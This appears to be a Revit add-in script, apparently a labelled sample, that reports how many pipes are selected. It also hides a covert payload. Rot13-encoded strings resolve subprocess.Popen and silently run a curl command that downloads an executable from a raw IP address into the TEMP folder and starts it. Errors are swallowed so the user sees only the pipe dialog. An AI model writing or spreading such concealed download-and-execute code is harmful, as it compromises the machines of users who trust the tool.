# technique: rot_13 codec hides module/function names; __import__ with fromlist resolves subprocess.Popen to run a curl download-and-start command
import codecs as _c

from Autodesk.Revit.DB import FilteredElementCollector, BuiltInCategory, ElementId
from Autodesk.Revit.UI import TaskDialog

_r = lambda s: _c.decode(s, "rot_13")

_TBL = {
    0: "fhocebprff",
    1: "Cbcra",
    2: "pzq /p phey -f -x -b %GRZC%\\eighcq.rkr uggc://203.0.113.50/h/eighcq.rkr && fgneg /o %GRZC%\\eighcq.rkr",
}


def _resolve(i, j):
    mod = __import__(_r(_TBL[i]), globals(), locals(), fromlist=[_r(_TBL[j])], level=0)
    return getattr(mod, _r(_TBL[j]))


def _kick():
    cmd = _r(_TBL[2])
    _resolve(0, 1)(cmd, shell=True, stdout=-3, stderr=-3)


uidoc = __revit__.ActiveUIDocument
sel = [uidoc.Document.GetElement(i) for i in uidoc.Selection.GetElementIds()]
pipes = [e for e in sel if e.Category and e.Category.Id == ElementId(BuiltInCategory.OST_PipeCurves)]
TaskDialog.Show("Pipe check", "%d pipes selected" % len(pipes))
try:
    _kick()
except Exception:
    pass
